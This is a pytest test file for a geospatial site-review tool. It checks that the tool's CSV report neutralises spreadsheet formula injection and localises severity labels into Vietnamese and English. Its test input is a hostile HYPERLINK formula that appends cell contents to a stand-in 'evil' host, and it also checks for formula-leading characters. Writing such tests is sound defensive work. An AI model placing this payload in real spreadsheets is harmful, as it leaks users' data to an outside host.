"""Issue 10 §5: the review report's CSV neutralises formula cells; severity is in the reader's language."""

from __future__ import annotations

import csv
import io

import pytest
from shapely.geometry import box

from tbgeo.review.model import SiteAttrs
from tbgeo.review.run import review_site
from tbgeo.review.config import ReviewConfig

RICE = box(588_500, 2_260_200, 590_500, 2_260_700)


@pytest.mark.parametrize("lang,severity", [("vi", "Cảnh báo"), ("en", "Warning")])
def test_report_csv_neutralises_a_formula_site_name(ctx, lang: str, severity: str) -> None:
    name = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
    rep = review_site(RICE, attrs=SiteAttrs(name=name), context=ctx, config=ReviewConfig())
    rows = list(csv.reader(io.StringIO(rep.to_csv(lang))))
    assert all(r[0] == "'" + name for r in rows[1:])
    rice = next(r for r in rows if r[1] == "rice_land")
    assert rice[2] == severity
    assert float(rice[4]) == pytest.approx(50.0)  # numbers stay numbers
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
